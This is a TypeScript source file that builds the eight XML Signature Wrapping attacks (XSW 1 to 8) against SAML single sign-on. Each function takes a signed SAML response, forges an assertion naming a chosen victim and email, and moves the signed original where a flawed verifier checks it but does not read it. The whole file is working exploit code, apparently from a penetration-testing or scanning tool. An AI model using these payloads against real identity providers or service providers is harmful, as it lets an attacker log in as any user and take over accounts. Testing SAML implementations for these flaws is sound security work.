/** Signature wrapping: what was signed is moved to where nobody reads it, and something else is read. XSW 1 to 8. */
type Cut = {
  head: string
  assertion: string
  signature: string
  tail: string
  evil: (name: string) => string
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s

function cut(xml: string, victim: string, email: string): Cut {
  const from = xml.indexOf('<saml:Assertion')
  const to = xml.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length
  const assertion = xml.slice(from, to)
  const signature = SIGNATURE.exec(assertion)?.[0] ?? ''
  const evil = (id: string) =>
    assertion
      .replace(signature, '')
      .replace(/ID="[^"]+"/, `ID="${id}"`)
      .replace(/(<saml:NameID[^>]*>)[^<]+/, `$1${victim}`)
      .replaceAll(/(<saml:AttributeValue>)[^<]+@[^<]+/g, `$1${email}`)
  return { head: xml.slice(0, from), assertion, signature, tail: xml.slice(to), evil }
}
const bare = (of: Cut) => of.assertion.replace(of.signature, '')
const put = (assertion: string, what: string) => assertion.replace('</saml:Issuer>', `</saml:Issuer>${what}`)
const inside = (signature: string, what: string) =>
  signature.replace('</ds:Signature>', `${what}</ds:Signature>`)

/** Of an answer that is signed as a whole, the ways of 1 and 2. */
function ofAnswer(xml: string, victim: string, email: string) {
  const [head] = /^<samlp:Response[^>]*>/.exec(xml)!
  const signature = SIGNATURE.exec(xml.slice(0, xml.indexOf('<samlp:Status')))![0]
  const original = xml.replace(signature, '')
  const evil = original
    .replace(head, head.replace(/ ID="[^"]+"/, ' ID="_evil"'))
    .replace(/(<saml:NameID[^>]*>)[^<]+/, `$1${victim}`)
    .replaceAll(/(<saml:AttributeValue>)[^<]+@[^<]+/g, `$1${email}`)
  return { signature, original, evil }
}

export const WRAPPINGS: [
  string,
  'answer' | 'assertion',
  (xml: string, victim: string, email: string) => string,
][] = [
  [
    'XSW 1: the signed answer in an Object of its signature',
    'answer',
    (...given) => {
      const { signature, original, evil } = ofAnswer(...given)
      const moved = inside(signature, `<ds:Object>${original}</ds:Object>`)
      return evil.replace('</saml:Issuer>', `</saml:Issuer>${moved}`)
    },
  ],
  [
    'XSW 2: the signed answer beside its signature',
    'answer',
    (...given) => {
      const { signature, original, evil } = ofAnswer(...given)
      return evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}${original}`)
    },
  ],
  [
    'XSW 3: another assertion before the signed one',
    'assertion',
    (...given) => {
      const of = cut(...given)
      return `${of.head}${of.evil('_evil')}${of.assertion}${of.tail}`
    },
  ],
  [
    'XSW 4: the signed assertion in another one',
    'assertion',
    (...given) => {
      const of = cut(...given)
      return `${of.head}${of.evil('_evil').replace('</saml:Assertion>', `${of.assertion}</saml:Assertion>`)}${of.tail}`
    },
  ],
  [
    'XSW 5: the signature in another assertion, the signed one at the end',
    'assertion',
    (...given) => {
      const of = cut(...given)
      return `${of.head}${put(of.evil('_evil'), of.signature)}${bare(of)}${of.tail}`
    },
  ],
  [
    'XSW 6: the signed assertion in the signature of another one',
    'assertion',
    (...given) => {
      const of = cut(...given)
      return `${of.head}${put(of.evil('_evil'), inside(of.signature, bare(of)))}${of.tail}`
    },
  ],
  [
    'XSW 7: another assertion in Extensions',
    'assertion',
    (...given) => {
      const of = cut(...given)
      const id = /ID="([^"]+)"/.exec(of.assertion)![1]!
      return `${of.head}<samlp:Extensions>${of.evil(id)}</samlp:Extensions>${of.assertion}${of.tail}`
    },
  ],
  [
    'XSW 8: the signed assertion in an Object of another one',
    'assertion',
    (...given) => {
      const of = cut(...given)
      const id = /ID="([^"]+)"/.exec(of.assertion)![1]!
      return `${of.head}${put(of.evil(id), inside(of.signature, `<ds:Object>${bare(of)}</ds:Object>`))}${of.tail}`
    },
  ],
]
